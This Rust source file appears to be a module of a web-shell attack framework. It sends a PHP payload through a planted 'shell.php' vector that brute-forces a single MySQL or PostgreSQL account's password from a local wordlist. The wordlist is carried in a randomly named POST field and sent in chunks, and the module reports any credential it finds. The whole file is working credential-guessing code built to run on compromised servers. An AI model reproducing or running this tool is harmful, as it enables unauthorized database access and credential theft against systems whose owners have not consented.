//! bruteforce.sql - try a local wordlist against one SQL account
//!
//! The wordlist travels in a randomly named request field, chunked so that
//! remote database hosts are not hit with thousands of connects per request.

use rand::Rng;
use shellvec_config::ChunkingConfig;
use shellvec_core::{Error, Flow, Payload, Result, ResultValue};
use shellvec_engine::{
    ChunkedProbe, ChunkedProbeExecutor, Context, FeatureCheck, Module, ModuleBase, Parameter,
    Source, Vector, VectorRegistry, WorkingSet, VECTOR_PARAM,
};
use std::path::PathBuf;

pub const NAME: &str = "bruteforce.sql";

const CONNECT_LOOP: &str = r#"$m="%s"; $h="%s"; $u="%s"; $w=$_POST["%s"];
ini_set('mysql.connect_timeout',1);
foreach(preg_split('/[\n]+/',$w) as $pwd) {
$c=@$m("$h", "$u", "$pwd");
if($c){
print("+" . $u . ":" . $pwd . "\n");
break;
}
}"#;

pub struct Sql {
    base: ModuleBase,
    chunking: ChunkingConfig,
    supplied: Option<WorkingSet>,
    start: usize,
}

impl Sql {
    pub fn new(chunking: ChunkingConfig) -> Result<Self> {
        let vectors =
            VectorRegistry::new().with(Vector::new("brute_sql_php", "shell.php", CONNECT_LOOP))?;

        let base = ModuleBase::new(
            NAME,
            "Bruteforce single SQL user using local wordlist",
            vec![
                Parameter::positional("dbms", 0, "DBMS")
                    .required()
                    .choices(["mysql", "postgres"]),
                Parameter::positional("user", 1, "SQL user to bruteforce").required(),
                Parameter::positional("lpath", 2, "Path of local wordlist").required(),
                Parameter::positional("sline", 3, "Start line of local wordlist")
                    .default_value("all")
                    .validator(check_start_line),
                Parameter::positional("host", 4, "SQL host or host:port").default_value("127.0.0.1"),
            ],
            vectors,
        )?;

        Ok(Self {
            base,
            chunking,
            supplied: None,
            start: 0,
        })
    }

    /// Use `words` instead of reading `lpath` on the next run only.
    pub fn supply_wordlist(&mut self, words: WorkingSet) {
        self.supplied = Some(words);
    }
}

fn connect_function(dbms: &str) -> &'static str {
    match dbms {
        "postgres" => "pg_connect",
        _ => "mysql_connect",
    }
}

/// `all` is line 0.
fn parse_start_line(sline: &str) -> std::result::Result<usize, String> {
    if sline == "all" {
        return Ok(0);
    }
    sline
        .parse()
        .map_err(|_| format!("invalid start line '{}'", sline))
}

fn check_start_line(sline: &str) -> std::result::Result<(), String> {
    parse_start_line(sline).map(|_| ())
}

fn random_field() -> String {
    let mut rng = rand::thread_rng();
    (0..4).map(|_| rng.gen_range(b'a'..=b'z') as char).collect()
}

/// One run's fixed inputs.
struct Attempt {
    connect: &'static str,
    host: String,
    user: String,
    field: String,
}

impl ChunkedProbe for Attempt {
    fn feature_check(&self, _vector: &Vector) -> Result<Option<FeatureCheck>> {
        Ok(Some(FeatureCheck {
            payload: Payload::new(format!("if(function_exists('{}')) echo(1);", self.connect)),
            expect: "1".to_string(),
            feature: self.connect.to_string(),
        }))
    }

    fn round_payload(&self, vector: &Vector, chunk: &[String]) -> Result<Payload> {
        let body = vector.fill(&[
            self.connect,
            self.host.as_str(),
            self.user.as_str(),
            self.field.as_str(),
        ])?;
        Ok(Payload::new(body).with_field(&self.field, chunk.join("\n")))
    }

    fn split_message(&self, total: usize, chunks: usize, size: usize) -> String {
        format!(
            "Splitting wordlist of {} words in {} chunks of {} words.",
            total, chunks, size
        )
    }

    fn progress_message(&self, offset: usize, item: &str) -> String {
        format!("Tried password #{}: ({}:{}) ...", offset, self.user, item)
    }

    fn exhausted_message(&self) -> String {
        format!(
            "Password of '{}' not found. Check dbms availability or try with another username and wordlist",
            self.user
        )
    }
}

impl Module for Sql {
    fn base(&self) -> &ModuleBase {
        &self.base
    }

    fn base_mut(&mut self) -> &mut ModuleBase {
        &mut self.base
    }

    fn prepare(&mut self, ctx: &mut Context<'_>) -> Flow {
        self.start = parse_start_line(ctx.args.get("sline").unwrap_or("all"))
            .map_err(|e| Error::Argument(format!("argument sline: {}", e)))?;
        Ok(())
    }

    fn probe(&mut self, ctx: &mut Context<'_>) -> Flow<ResultValue> {
        let source = match self.supplied.take() {
            Some(words) => Source::Supplied(words),
            None => Source::File(PathBuf::from(ctx.args.require("lpath")?)),
        };
        let words = source.assemble(NAME)?;

        let attempt = Attempt {
            connect: connect_function(ctx.args.require("dbms")?),
            host: ctx.args.require("host")?.to_string(),
            user: ctx.args.require("user")?.to_string(),
            field: random_field(),
        };

        let candidates = self
            .base
            .vectors()
            .select(ctx.args.get(VECTOR_PARAM), ctx.session.capabilities())?;

        let executor = ChunkedProbeExecutor::new(self.chunking.size_for_host(&attempt.host))
            .starting_at(self.start);
        tracing::debug!(words = words.len(), chunk = executor.chunk_size(), "bruteforcing sql user");

        match executor.execute(ctx, &candidates, &attempt, &words)? {
            Some(hit) => Ok(ResultValue::text(format!("FOUND! ({})", hit.confirmed))),
            None => Ok(ResultValue::Empty),
        }
    }
}
